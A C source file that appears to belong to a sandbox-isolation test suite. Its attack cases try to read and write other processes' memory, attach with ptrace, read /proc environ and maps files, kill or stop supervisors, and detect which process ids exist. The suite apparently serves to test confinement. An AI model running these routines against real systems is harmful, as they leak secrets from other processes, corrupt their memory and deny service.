// Reaching for other processes: reading and writing their memory, sending signals, changing what the kernel keeps of them.
// The targets are a process of the host with the caller's own user, the caller, the supervisor and what is above us.
#define CLASS "process"
#include "attack.h"
#include <sched.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/prctl.h>

static char page[4096];
static void readMemory(int pid) {
    struct iovec l = {page, 64}, r = {(void *)VICTIM_ADDRESS, 64};
    ssize_t got = process_vm_readv(pid, &l, 1, &r, 1, 0);
    say("process_vm_readv", got);
    if (got > 0) leak(page, (size_t)got);
}
ATTACK(memory_read, leak, 0, "process_vm_readv") { hostPids(readMemory); }
static void writeMemory(int pid) {
    struct iovec l = {"DEFACED", 7}, r = {(void *)VICTIM_ADDRESS, 7};
    say("process_vm_writev", process_vm_writev(pid, &l, 1, &r, 1, 0));
}
ATTACK(memory_written, change, 0, "process_vm_writev") { hostPids(writeMemory); }
static void memFile(int pid) {
    char text[64];
    snprintf(text, sizeof text, "/proc/%d/mem", pid);
    int fd = open(text, O_RDWR);
    say(text, fd);
    ssize_t got = pread(fd, page, 64, VICTIM_ADDRESS);
    if (got > 0) leak(page, (size_t)got), say("pwrite", pwrite(fd, "DEFACED", 7, VICTIM_ADDRESS));
}
ATTACK(mem_file, change, 0, "/proc/PID/mem, read and written") { hostPids(memFile); }
static void attach(int pid) {
    if (pid <= 1 || (!inside && pid != victim())) return;
    for (int i = 0; i < 2; i++) {
        long result = i ? ptrace(PTRACE_ATTACH, pid, 0, 0) : ptrace(PTRACE_SEIZE, pid, 0, 0);
        say(i ? "PTRACE_ATTACH" : "PTRACE_SEIZE", result);
        if (result != 0) continue;
        ptrace(PTRACE_INTERRUPT, pid, 0, 0);
        waitpid(pid, NULL, __WALL);
        long word = ptrace(PTRACE_PEEKDATA, pid, (void *)VICTIM_ADDRESS, 0), next = ptrace(PTRACE_PEEKDATA, pid, (void *)(VICTIM_ADDRESS + 8), 0),
             last = ptrace(PTRACE_PEEKDATA, pid, (void *)(VICTIM_ADDRESS + 16), 0);
        leak(&word, 8), leak(&next, 8), leak(&last, 8);
        ptrace(PTRACE_DETACH, pid, 0, 0);
        return;
    }
}
ATTACK(traced, leak, 0, "PTRACE_SEIZE and PTRACE_ATTACH") { hostPids(attach); }
static void poke(int pid) {
    if (!inside && pid != victim()) return;
    if (ptrace(PTRACE_ATTACH, pid, 0, 0) == 0) {
        waitpid(pid, NULL, __WALL);
        say("POKEDATA", ptrace(PTRACE_POKEDATA, pid, (void *)VICTIM_ADDRESS, 0x4141414141414141));
        ptrace(PTRACE_DETACH, pid, 0, 0);
    } else say("PTRACE_ATTACH", -1);
}
ATTACK(traced_written, change, 0, "PTRACE_POKEDATA") { hostPids(poke); }
static void textFiles(int pid) {
    static const char *names[] = {"environ", "cmdline", "auxv", "stat", "maps", "mountinfo", "net/unix", "syscall", "stack", "io", "smaps", "cgroup", "limits"};
    char text[64];
    for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
        snprintf(text, sizeof text, "/proc/%d/%s", pid, names[i]);
        leakPath(text);
    }
}
ATTACK(proc_files, leak, 0, "/proc/PID/environ, cmdline, maps, mountinfo and others of the host's processes") { hostPids(textFiles); }
ATTACK(proc_files_all, leak, 0, "the same of every pid up to 500, and of the supervisor's neighbours") {
    for (int pid = 1; pid < 500; pid++) textFiles(pid);
    for (int d = -20; d <= 20; d++) {
        textFiles(victim() + d);
        textFiles(knowsNumber("SUPERVISOR") + d);
    }
}
static const int numbers[] = {SIGTERM, SIGUSR1, SIGINT, SIGHUP, SIGIO, 40};
static void sendKill(int pid) {
    if (!inside && pid != victim()) return;
    for (size_t i = 0; i < 6; i++) say("kill", kill(pid, numbers[i]));
}
ATTACK(signal_kill, change, 0, "kill") { hostPids(sendKill); }
static void sendThread(int pid) {
    if (!inside && pid != victim()) return;
    say("tkill", syscall(SYS_tkill, pid, SIGUSR1)), say("tgkill", syscall(SYS_tgkill, pid, pid, SIGUSR1));
}
ATTACK(signal_thread, change, 0, "tkill and tgkill") { hostPids(sendThread); }
static void queue(int pid) {
    if (!inside && pid != victim()) return;
    siginfo_t info;
    memset(&info, 0, sizeof info);
    info.si_code = SI_QUEUE, info.si_signo = SIGUSR1;
    say("rt_sigqueueinfo", syscall(SYS_rt_sigqueueinfo, pid, SIGUSR1, &info)),
        say("rt_tgsigqueueinfo", syscall(SYS_rt_tgsigqueueinfo, pid, pid, SIGUSR1, &info));
}
ATTACK(signal_queued, change, 0, "rt_sigqueueinfo and rt_tgsigqueueinfo") { hostPids(queue); }
static void viaPidfd(int pid) {
    if (!inside && pid != victim()) return;
    int fd = (int)syscall(SYS_pidfd_open, pid, 0);
    say("pidfd_open", fd);
    say("pidfd_send_signal", syscall(SYS_pidfd_send_signal, fd, SIGUSR1, NULL, 0));
}
ATTACK(signal_pidfd, change, 0, "pidfd_send_signal") { hostPids(viaPidfd); }
ATTACK(signal_group, change, 0, "kill of the victim's process group and of the groups above us") {
    say("kill", kill(-victim(), SIGUSR1));
    if (inside) {
        say("kill", kill(-knowsNumber("RUNNER"), SIGUSR1));
        say("kill", kill(-getppid(), SIGCONT));
    }
}
ATTACK(signal_all, change, 0, "kill(-1): everything that may be signalled; natively in the cage") {
    signal(SIGUSR1, SIG_IGN);
    signal(SIGUSR2, SIG_IGN);
    say("kill", kill(-1, inside ? SIGKILL : SIGURG));
}
static void stopIt(int pid) {
    if (!inside && pid != victim()) return;
    say("SIGSTOP", kill(pid, SIGSTOP));
}
ATTACK(signal_stop, deny, 0, "SIGSTOP of the victim and of everything above us, the supervisor and its init") { hostPids(stopIt); }
static void killIt(int pid) {
    if (!inside && pid != victim()) return;
    say("SIGKILL", kill(pid, SIGKILL));
}
ATTACK(signal_sigkill, deny, 0, "SIGKILL of the victim and of everything above us") { hostPids(killIt); }
static void own(int pid) {
    if (!inside && pid != victim()) return;
    int ends[2];
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, ends) != 0) return;
    struct {
        int type, pid;
    } ex = {1, pid};
    for (int i = 0; i < 3; i++) {
        if (i == 0) say("F_SETOWN", fcntl(ends[0], F_SETOWN, pid));
        else if (i == 1) say("F_SETOWN_EX", fcntl(ends[0], 15, &ex));
        else say("FIOSETOWN", fcntl(ends[0], F_SETOWN, -pid));
        say("F_SETSIG", fcntl(ends[0], 10, SIGUSR1)), say("O_ASYNC", fcntl(ends[0], F_SETFL, O_ASYNC));
        ssize_t w = write(ends[1], "x", 1);
        (void)w;
    }
}
ATTACK(signal_owner, change, 0, "F_SETOWN, F_SETOWN_EX and O_ASYNC: the kernel sends the signal") {
    hostPids(own);
    usleep(20000);
}
ATTACK(signal_at_exit, change, 0, "clone with an exit signal for the parent, CLONE_PARENT and PR_SET_PDEATHSIG; natively with a signal to show the way") {
    long child = syscall(SYS_clone, 0x8000 /* CLONE_PARENT */ | SIGUSR1, 0, 0, 0, 0);
    if (child == 0) syscall(SYS_exit, 0);
    say("clone", child);
    prctl(PR_SET_PDEATHSIG, SIGUSR1);
    if (!inside) kill(victim(), SIGUSR1);
}
ATTACK(signal_timer, change, 0, "a POSIX timer and a message queue's notification aimed at a thread of others; natively with a signal to show the way") {
    struct sigevent event;
    memset(&event, 0, sizeof event);
    event.sigev_notify = 4 /* SIGEV_THREAD_ID */, event.sigev_signo = SIGUSR1;
    ((int *)&event)[4] = victim();
    int timer;
    say("timer_create", syscall(SYS_timer_create, 1, &event, &timer));
    if (!inside) kill(victim(), SIGUSR1);
}
static void limit(int pid) {
    if (!inside && pid != victim()) return;
    struct rlimit r = {64, 64};
    say("prlimit", prlimit(pid, RLIMIT_NOFILE, &r, NULL));
    r = (struct rlimit){1, 1};
    say("prlimit", prlimit(pid, RLIMIT_CORE, &r, NULL));
}
ATTACK(limits, change, 0, "prlimit of others") { hostPids(limit); }
static void affinity(int pid) {
    if (!inside && pid != victim()) return;
    cpu_set_t one;
    CPU_ZERO(&one);
    CPU_SET(0, &one);
    say("sched_setaffinity", sched_setaffinity(pid, sizeof one, &one));
}
ATTACK(affinity_set, change, 0, "sched_setaffinity of others") { hostPids(affinity); }
static void scheduler(int pid) {
    if (!inside && pid != victim()) return;
    struct sched_param p = {0};
    say("sched_setscheduler", sched_setscheduler(pid, SCHED_BATCH, &p));
    struct {
        uint32_t size, policy;
        uint64_t flags;
        int nice;
        uint32_t priority;
        uint64_t a, b, c;
        uint32_t d, e;
    } attr = {56, 5, 0, 0, 0, 0, 0, 0, 0, 0};
    say("sched_setattr", syscall(SYS_sched_setattr, pid, &attr, 0));
}
ATTACK(scheduler_set, change, 0, "sched_setscheduler and sched_setattr of others") { hostPids(scheduler); }
static void nicer(int pid) {
    if (!inside && pid != victim()) return;
    say("setpriority", setpriority(PRIO_PROCESS, (id_t)pid, 7)), say("setpriority", setpriority(PRIO_PGRP, (id_t)pid, 8));
}
ATTACK(priority_set, change, 0, "setpriority of processes and groups") { hostPids(nicer); }
ATTACK(priority_of_user, change, 0, "setpriority PRIO_USER and ioprio_set IOPRIO_WHO_USER: all that the user has") {
    for (int i = 0; i < 2; i++) {
        id_t user = i ? 65534 : getuid();
        say("setpriority", setpriority(PRIO_USER, user, 9));
        say("ioprio_set", syscall(SYS_ioprio_set, 3, user, (3 << 13) | 0));
    }
    if (inside) say("setpriority", setpriority(PRIO_USER, 0, 9));
}
static void ioPriority(int pid) {
    if (!inside && pid != victim()) return;
    say("ioprio_set", syscall(SYS_ioprio_set, 1, pid, (3 << 13) | 0)), say("ioprio_set", syscall(SYS_ioprio_set, 2, pid, (3 << 13) | 0));
}
ATTACK(io_priority, change, 0, "ioprio_set of others") { hostPids(ioPriority); }
ATTACK(exists_kill, leak, PID_ORACLE, "which pids of the host exist: kill(pid, 0)") {
    char bits[17] = "", text[160], *rest = text, *word;
    snprintf(text, sizeof text, "%s", knows("PIDS"));
    while ((word = strsep(&rest, " ")))
        if (*word && strlen(bits) < 16) strcat(bits, kill(atoi(word), 0) == 0 || errno == EPERM ? "1" : "0");
    leak("PIDS:", 5), leakText(bits);
}
static int way;
static bool exists(int pid) {
    struct sched_param param;
    struct rlimit r;
    char text[64], set[128];
    size_t size;
    void *list;
    struct stat s;
    int fd = -1;
    errno = 0;
    switch (way) {
        case 0:
            return getpgid(pid) >= 0 || (errno != ESRCH && errno != ENOSYS && errno != EPERM);
        case 1:
            return getsid(pid) >= 0;
        case 2:
            return sched_getparam(pid, &param) == 0;
        case 3:
            return sched_getaffinity(pid, sizeof set, (cpu_set_t *)set) == 0;
        case 4:
            return getpriority(PRIO_PROCESS, (id_t)pid) != -1 || errno == 0;
        case 5:
            return syscall(SYS_ioprio_get, 1, pid) >= 0;
        case 6:
            return prlimit(pid, RLIMIT_NOFILE, NULL, &r) == 0;
        case 7:
            fd = (int)syscall(SYS_pidfd_open, pid, 0);
            close(fd);
            return fd >= 0;
        case 8:
            snprintf(text, sizeof text, "/proc/%d", pid);
            return stat(text, &s) == 0;
        case 9:
            return syscall(SYS_get_robust_list, pid, &list, &size) == 0;
        case 10:
            return syscall(SYS_tgkill, pid, pid, 0) == 0;
        case 11:
            return sched_rr_get_interval(pid, (struct timespec *)text) == 0;
        case 12:
            return getpriority(PRIO_PGRP, (id_t)pid) != -1 || errno == 0;
        case 13:
            return syscall(SYS_setpgid, pid, pid) == 0 || errno == EACCES || errno == EPERM;
        case 14:
            return syscall(SYS_kcmp, pid, pid, 1, 0, 0) == 0;
        case 15:
            return syscall(SYS_sched_getattr, pid, page, 56, 0) == 0;
        case 16: {
            clockid_t clock = (clockid_t)(((unsigned)~pid << 3) | 2);
            struct timespec t;
            return clock_gettime(clock, &t) == 0;
        }
        case 17:
            return syscall(SYS_move_pages, pid, 0UL, NULL, NULL, NULL, 0) == 0;
        case 18: {
            int e[2];
            if (pipe(e)) return false;
            int r2 = fcntl(e[0], F_SETOWN, pid);
            close(e[0]), close(e[1]);
            return r2 == 0;
        }
        case 19:
            return sched_getscheduler(pid) >= 0;
        case 20:
            return syscall(SYS_process_vm_readv, pid, NULL, 0UL, NULL, 0UL, 0UL) == 0;
        default: {
            struct iovec l = {page, 8}, m = {(void *)8, 8};
            process_vm_readv(pid, &l, 1, &m, 1, 0);
            return errno == EFAULT || errno == EPERM;
        }
    }
}
// The oracle's own pattern: any way that distinguishes all sixteen.
static void oracles(int from, int to) {
    for (way = from; way < to; way++) {
        char bits[17] = "", text[160], *rest = text, *word, label[32];
        snprintf(text, sizeof text, "%s", knows("PIDS"));
        while ((word = strsep(&rest, " ")))
            if (*word && strlen(bits) < 16) strcat(bits, exists(atoi(word)) ? "1" : "0");
        snprintf(label, sizeof label, "way %d", way), leakText(label), leak("PIDS:", 5), leakText(bits);
    }
}
ATTACK(exists_groups, leak, PID_ORACLE, "the same by getpgid, getsid and setpgid") { oracles(0, 2), oracles(13, 14); }
ATTACK(exists_scheduler, leak, PID_ORACLE, "the same by sched_getparam, sched_getaffinity, sched_getscheduler, sched_getattr, sched_rr_get_interval") {
    oracles(2, 4), oracles(11, 12), oracles(15, 16), oracles(19, 20);
}
ATTACK(exists_priority, leak, PID_ORACLE, "the same by getpriority and ioprio_get") { oracles(4, 6), oracles(12, 13); }
ATTACK(exists_limits, leak, PID_ORACLE, "the same by prlimit and get_robust_list") { oracles(6, 7), oracles(9, 10); }
ATTACK(exists_pidfd, leak, PID_ORACLE, "the same by pidfd_open, /proc/PID and tgkill") { oracles(7, 9), oracles(10, 11); }
ATTACK(exists_clock, leak, PID_ORACLE, "the same by the CPU clocks of others") { oracles(16, 17); }
ATTACK(exists_memory, leak, PID_ORACLE, "the same by process_vm_readv, move_pages, kcmp and F_SETOWN") { oracles(14, 15), oracles(17, 19), oracles(20, 22); }
static void advise(int pid) {
    int fd = (int)syscall(SYS_pidfd_open, pid, 0);
    struct iovec v = {(void *)VICTIM_ADDRESS, 4096};
    say("process_madvise", syscall(440, fd, &v, 1, 21 /* MADV_PAGEOUT */, 0)), say("process_mrelease", syscall(448, fd, 0)),
        say("migrate_pages", syscall(SYS_migrate_pages, pid, 1UL, NULL, NULL));
    if (!inside) kill(pid == victim() ? pid : getpid(), SIGURG);
}
ATTACK(advised, change, 0, "process_madvise, process_mrelease, migrate_pages; natively with a signal to show that it is reached") { hostPids(advise); }
static void score(int pid) {
    char text[64];
    snprintf(text, sizeof text, "/proc/%d/oom_score_adj", pid);
    int fd = open(text, O_WRONLY);
    say(text, fd);
    ssize_t w = write(fd, "500", 3);
    snprintf(text, sizeof text, "/proc/%d/coredump_filter", pid);
    fd = open(text, O_WRONLY);
    w += write(fd, "1", 1);
    snprintf(text, sizeof text, "/proc/%d/timerslack_ns", pid);
    fd = open(text, O_WRONLY);
    w += write(fd, "99999", 5);
    say("written", w);
    if (!inside && pid == victim()) kill(pid, SIGURG);
}
ATTACK(proc_written, change, 0, "oom_score_adj, timerslack_ns and coredump_filter of others") { hostPids(score); }
ATTACK(grouped, change, 0, "setpgid of another process and joining its group; natively with a signal to the group") {
    say("setpgid", setpgid(0, victim())), say("setpgid", setpgid(victim(), 0));
    say("kill", kill(-victim(), SIGUSR2));
    if (inside) kill(0, SIGCONT);
}
